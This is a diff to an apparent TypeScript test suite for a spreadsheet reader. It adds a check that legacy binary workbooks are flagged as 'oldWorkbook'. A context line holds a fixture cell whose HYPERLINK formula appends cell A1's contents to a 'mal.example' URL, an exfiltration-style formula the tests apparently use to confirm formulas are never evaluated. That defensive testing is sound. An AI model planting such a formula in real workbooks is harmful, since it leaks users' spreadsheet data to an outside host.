@@ -50,6 +50,21 @@ const row = (at: number, cells: string) => `<row r="${at}">${cells}</row>`
 const head = row(1, text('A1', 'Títol') + text('B1', 'Data'))
 
 describe('a workbook', () => {
+  test('of the old kind is called so', async () => {
+    const old = new Uint8Array([
+      0xd0,
+      0xcf,
+      0x11,
+      0xe0,
+      0xa1,
+      0xb1,
+      0x1a,
+      0xe1,
+      ...Array.from({ length: 600 }, () => 0),
+    ])
+    expect(await readTable(old)).toEqual({ problem: 'oldWorkbook' })
+  })
+
   test('has of a formula what it last came to, and of a link its words; nothing is worked out', async () => {
     const cells = [
       `<c r="A2" t="str"><f>HYPERLINK("https://mal.example/"&amp;A1,"Ball")</f><v>Ball</v></c>`,
